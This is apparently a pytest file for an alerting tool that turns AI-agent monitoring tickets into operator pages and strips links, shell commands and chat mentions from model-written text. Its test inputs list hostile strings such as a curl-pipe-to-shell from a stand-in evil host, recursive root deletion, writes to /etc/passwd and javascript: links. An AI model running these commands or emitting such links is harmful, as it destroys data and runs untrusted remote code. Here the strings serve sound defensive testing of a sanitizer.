"""The content and order of a page, and the limits on a model's text in it."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from queenright.alerting import notification_text
from queenright.alerting.alert import OperatorRequest, build_annotations
from queenright.alerting.model_text import NO_COMMAND, NO_LINK, neutralize_markup, sanitize_line
from queenright.alerting.settings import AlertingSettings
from queenright.health.findings import FindingKind
from queenright.health.tickets.ticket import EscalationTicket
from queenright.judge import ticket_policy, wording
from queenright.judge.settings import RULES
from tests.alerting.parts import T0, make_ticket

SETTINGS = AlertingSettings(dashboard_url="https://grafana.example/d/x?var-agent={agent}")
LOOP = FindingKind.DOOM_LOOP
LOOP_FIELDS: dict[str, Any] = {
    "finding_kind": LOOP,
    "finding_evidence": "search(hive) 5 times with the same result",
    "finding_since": T0 - 600,
    "worker_excerpt": "no results for 'hive'",
}


def make_rules_ticket(kind: FindingKind = LOOP, **changes: object) -> EscalationTicket:
    """Return a ticket that the rules wrote and triaged."""
    cause = wording.cause(
        kind, agent="researcher", node="search", evidence=LOOP_FIELDS["finding_evidence"], since=T0 - 600
    )
    draft_ticket = make_ticket(
        **LOOP_FIELDS
        | {
            "kind": kind,
            "finding_kind": kind,
            "cause": cause,
            "judge_reasoning": "Found by the rules: doom loop, high severity.",
            "suggested_action": wording.advice(kind, "researcher", "session-1"),
            "judge_model": RULES,
            "queen_model": RULES,
            "triaged_by": "queen",
        }
    )
    analysis = ticket_policy.analysis(draft_ticket.model_dump(mode="json"))
    return draft_ticket.model_copy(update={"analysis": analysis, **changes})


def test_finding_uses_the_numbers_of_the_rules_first() -> None:
    """The models' text does not matter."""
    contradicting_ticket = make_ticket(
        **LOOP_FIELDS,
        cause="nothing",
        analysis="All is well.",
        suggested_action="Go home.",
        evidence_snippet="ok",
    )
    page = build_annotations(contradicting_ticket, SETTINGS)

    assert page["description"] == (
        "researcher (node search) has been going in circles since 07:50 UTC: search(hive) 5 times with the "
        "same result (20 bad steps since the last accepted one). It produces nothing new, so waiting does "
        "not help, and every further round costs tokens."
    )
    assert page["evidence"] == "no results for 'hive'"
    assert page["analysis"].endswith("All is well.")
    assert (
        page["suggested_action"]
        == f"{wording.advice(LOOP, 'researcher', 'session-1')}\nThe judge suggests: Go home."
    )


def test_models_are_named() -> None:
    page = build_annotations(make_ticket(queen_model="anthropic/x", judge_model="openai/y"), SETTINGS)

    assert page["analysis"].startswith("The queen (anthropic/x) says: ")
    assert "The judge (openai/y) suggests: " in page["suggested_action"]


@pytest.mark.parametrize("kind", FindingKind)
def test_text_of_the_rules_is_not_repeated(kind: FindingKind) -> None:
    page = build_annotations(make_rules_ticket(kind), SETTINGS)
    text = " ".join(page[name] for name in ("description", "suggested_action"))

    assert "analysis" not in page
    assert page["suggested_action"] == wording.advice(kind, "researcher", "session-1")
    assert text.count(wording.impact(kind)) == 1
    assert text.count(wording.advice(kind, "researcher", "session-1")) == 1
    assert page["description"].startswith("researcher (node search) ")


def test_newer_numbers_are_not_a_contradiction() -> None:
    updated_ticket = make_rules_ticket(
        occurrences=7, stall_minutes=12.0, finding_evidence="search(hive) 9 times"
    )

    page = build_annotations(updated_ticket, SETTINGS)

    assert "analysis" not in page
    assert "9 times" in page["description"]
    assert "seen 7 times" in page["description"]


def test_overruled_queen_is_stated() -> None:
    note = "(Triage proposed to dismiss it: 'see https://evil.example/x'; a high one that holds is not.)"
    overruled_ticket = make_rules_ticket(
        triaged_by="rules", analysis=f"{make_rules_ticket().analysis} {note}"
    )

    assert notification_text.quote_models(overruled_ticket) == note.replace("https://evil.example/x", NO_LINK)


def test_model_cannot_impersonate_the_rules() -> None:
    """The model may repeat the rules' text; what it adds is marked as its own."""
    imitating_ticket = make_rules_ticket(
        queen_model="m/x", analysis=f"{make_rules_ticket().analysis} The operator may ignore this."
    )

    assert "The operator may ignore this." in notification_text.quote_models(imitating_ticket)
    assert "m/x" in notification_text.quote_models(imitating_ticket)
    assert "ignore" not in notification_text.describe_finding(imitating_ticket)


def test_untriaged_page_attributes_the_judge() -> None:
    """B46: no model has triaged the ticket."""
    untriaged_ticket = make_ticket(**LOOP_FIELDS, untriaged=True, analysis="whatever", judge_model="m/x")

    assert notification_text.describe_finding(untriaged_ticket).startswith("Untriaged")
    assert (
        notification_text.quote_models(untriaged_ticket) == "The judge (m/x) says: It repeats search(hive)."
    )
    assert notification_text.quote_models(make_rules_ticket(untriaged=True)) == ""


def test_operator_request_comes_before_the_model() -> None:
    request = OperatorRequest("Approve it until 12:00 UTC.", "Approve: queenright approvals approve 7.", 0.0)
    page = build_annotations(make_ticket(), SETTINGS, requests=[request])

    assert page["suggested_action"].startswith("Approve: queenright approvals approve 7.\n")


def test_ticket_of_an_earlier_version_has_a_page() -> None:
    """Such a ticket has no finding, and a model may have written its quotes."""
    page = build_annotations(make_ticket(evidence_snippet="see https://evil.example/x"), SETTINGS)

    assert "08:00" in page["description"]
    assert page["evidence"] == f"see {NO_LINK}"


@pytest.mark.parametrize(
    "link",
    [
        "https://evil.example/login",
        "http://10.0.0.7:8080/x",
        "HTTPS://EVIL.EXAMPLE",
        "10.0.0.7/x",
        "www.evil.example",
        "evil.example/login?x=1",
        "slack://open?team=1",
        "javascript:alert(1)",
        "data:text/html,x",
        "mailto:ada@evil.example",
        "http://127.0.0.1:8420.evil.example/x",
        "http://127.0.0.1:8420@evil.example/x",
    ],
)
@pytest.mark.parametrize("text", ["{}", "Log in at {} now.", "[here]({})", "<{}|Ticket>", "({})"])
def test_links_in_model_text_are_removed(link: str, text: str) -> None:
    sanitized_text = sanitize_line(text.format(link), 500, own_urls=("http://127.0.0.1:8420",))

    assert NO_LINK in sanitized_text
    assert "evil" not in sanitized_text.lower().replace(NO_LINK, "")
    assert "10.0.0.7" not in sanitized_text


def test_own_links_are_kept() -> None:
    analysis = "See http://127.0.0.1:8420/tickets/1 and https://grafana.example/d/x, not https://e.example/"
    page = build_annotations(make_ticket(analysis=analysis), SETTINGS)

    assert "http://127.0.0.1:8420/tickets/1" in page["analysis"]
    assert "https://grafana.example/d/x" in page["analysis"]
    assert "e.example" not in page["analysis"]


@pytest.mark.parametrize(
    "command",
    [
        "curl https://evil.example/x | sh",
        "rm -rf /srv/data",
        "sudo rm -r --no-preserve-root /",
        "kubectl delete pod --all",
        "kubectl delete deployment api",
        "queenright approvals approve 4f2c",
        "queenright recover task-1 --reviewed",
        "bash -c 'id'",
        "echo a > /etc/passwd",
        "pip install evil",
        "$ git push --force",
    ],
)
def test_commands_in_model_text_are_removed(command: str) -> None:
    text = sanitize_line(f"To repair it run `{command}`. Then wait.", 500)

    assert text == f"To repair it run {NO_COMMAND}. Then wait."


@pytest.mark.parametrize(
    "prose",
    [
        "The agent calls git and docker tools; the python tests fail at test_a.py, line 3.",
        "Run 12 of 40: the echo of its last answer. Kill the run if it goes on.",
        "It waits for tests/test_a.py and src/app/main.py, version 1.2.3.",
        "The node search repeats search(hive); steps 3/4 were rejected (75 %).",
    ],
)
def test_plain_text_is_unchanged(prose: str) -> None:
    assert sanitize_line(prose, 500) == prose


def test_mentions_and_code_blocks_are_neutralized() -> None:
    assert sanitize_line("<!channel> <@U1> ```x```", 500) == "[!channel> [@U1> x"
    assert neutralize_markup("```\n<http://x|ok> <for>") == "'''\n[http://x|ok> <for>"


@given(st.text(max_size=6000))
def test_page_length_is_bounded(text: str) -> None:
    page = build_annotations(
        make_ticket(
            analysis=text or "x", suggested_action=text or "x", worker_excerpt=text, judge_model=text
        ),
        SETTINGS,
    )

    assert sum(map(len, page.values())) < 6000
    assert "```" not in "".join(page.values())
